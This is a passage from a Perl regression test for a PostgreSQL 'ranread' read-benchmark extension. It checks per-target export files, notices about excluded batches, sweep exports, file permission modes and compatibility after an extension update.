is($rows{'_vol_a_direct_64k_qd1.txt'}, 'vol a/1/400', '64 kB reads: their own file');
is($rows{'_vol_a_direct_8k_qd16.txt'}, 'vol a/1/4000', 'queue depth 16: its own file');
is($rows{'_vol_a_smgr_8k_qd1_open.txt'}, 'vol a/1/300', 'the open loop: its own file');
is(join(' | ', $rows{'_x_y_smgr_8k_qd1.txt'}, $rows{'_x_y_smgr_8k_qd1_2.txt'}), 'x y/1/700 | x_y/1/600',
	'two targets alike once file-safe: two files');
like($err, qr/NOTICE:  00000: 4 batches were left out of RanRead's format\n/, 'a NOTICE counts the batches left out');
like($err, qr/DETAIL:  Left out: batch 3 \(stopped\), batch 4 \(physical_pct 66\.0\), batch 11 \(cancelled\), batch 12 \(failed\)\. /,
	'and names each with why');
like($err, qr/HINT:  format 'tsv' exports every batch, with its status and physical_pct\./, 'and where to find them');
opendir(my $mdh, $mixed_dir) or die;
is(scalar(grep { /_c_/ } readdir $mdh), 0, 'a group whose batches were all left out has no file');
closedir $mdh;

# with a sweep: one file, the same batches left out
$node->safe_psql('mixed', q{
	INSERT INTO ranread_sweep_runs (sweep, started_at, leader_pid, target, mode, block_size, start_processes,
									max_processes, max_processes_by, stop_latency_ms, min_scaling_pct, status)
	VALUES (1, now(), 1, 'vol a', 'smgr', 8192, 1, 4, 'argument', 10, 25, 'completed'),
		   (2, now(), 1, 'c', 'smgr', 8192, 1, 1, 'argument', 10, 25, 'stopped');
	UPDATE ranread_batches SET sweep = 1, sweep_step = batch WHERE batch BETWEEN 1 AND 4;
	UPDATE ranread_batches SET sweep = 2, sweep_step = 1 WHERE batch = 11;});
($ret, $out, $err) = $node->psql('mixed', "SELECT * FROM ranread_export('$mixed_dir', 'ranread', sweep => 1)",
	extra_params => [ '-v', 'VERBOSITY=verbose' ]);
like($out, qr{^\Q$mixed_dir\E/PerfToolsRanRead_\d{8}-\d{4}(-\d+)?\.txt$}, 'sweep => 1: one file, PerfToolsRanRead_YYYYMMDD-HHMM.txt');
is(join(';', map { join('/', (split /\t/)[ 2, 4, 6 ]) } (split /\n/, slurp_file($out))[ 1 .. 2 ]) . '|'
	  . scalar(split /\n/, slurp_file($out)),
	'vol a/1/1000;vol a/2/2000|3', 'with the sweep\'s completed steps the device answered');
like($err, qr/2 batches were left out of RanRead's format\n.*Left out: batch 3 \(stopped\), batch 4 \(physical_pct 66\.0\)\./s,
	'and a NOTICE for the stopped and the memory-answered steps');
my $sweep_err;
($ret, $out, $sweep_err) = $node->psql('mixed', "SELECT * FROM ranread_export('$mixed_dir', 'ranread', sweep => 2, csv => true)",
	extra_params => [ '-v', 'VERBOSITY=verbose' ]);
is(sqlstate_of($sweep_err), '55000', 'a sweep with no step to export: 55000');
like($sweep_err, qr/no batch to export in RanRead's format\nDETAIL:  No batch of sweep 2 completed with the device answering its reads \(physical_pct at least 99\); left out: batch 11 \(cancelled\)\.\nHINT:  format 'tsv' exports every batch/,
	'no batch to export in RanRead\'s format, with what was left out and a hint');
my @mixed_files = glob("$mixed_dir/*");
is(scalar(@mixed_files), 9, 'and no file written by it (8 + 1 files from the two exports before)');

# --- export: files as readable as COPY TO makes them -------------------------------------
$node->safe_psql('postgres', "COPY (SELECT 1) TO '$dir/copy_to.txt'");
my $copy_mode = sprintf('%04o', (stat "$dir/copy_to.txt")[2] & 07777);
is($copy_mode, '0644', 'COPY TO writes mode 0644 (the server lowers its umask to 022 for it)');
@paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', 'ranread', csv => true, svg => true)");
is(join(',', map { sprintf('%04o', (stat $_)[2] & 07777) } @paths), join(',', ($copy_mode) x @paths),
	'every file of an export (RanRead, CSV, SVG) has COPY TO\'s mode');

# --- 1.0's declaration, before ALTER EXTENSION UPDATE, still exports --------------------
$node->safe_psql('postgres', 'CREATE DATABASE old');
$node->safe_psql('old', "CREATE EXTENSION ranread VERSION '1.0'");
like($node->safe_psql('old', "SELECT ranread_export('$dir')"), qr{/ranread_\d{8}-\d{4}(-\d+)?\.tsv$},
	"1.0's ranread_export(text) RETURNS text works with the new library");
$node->safe_psql('old', 'ALTER EXTENSION ranread UPDATE');
is($node->safe_psql('old', "SELECT count(*) FROM ranread_export('$dir', 'tsv', csv => true)"), '2',
	'after the update, the new one');

done_testing();
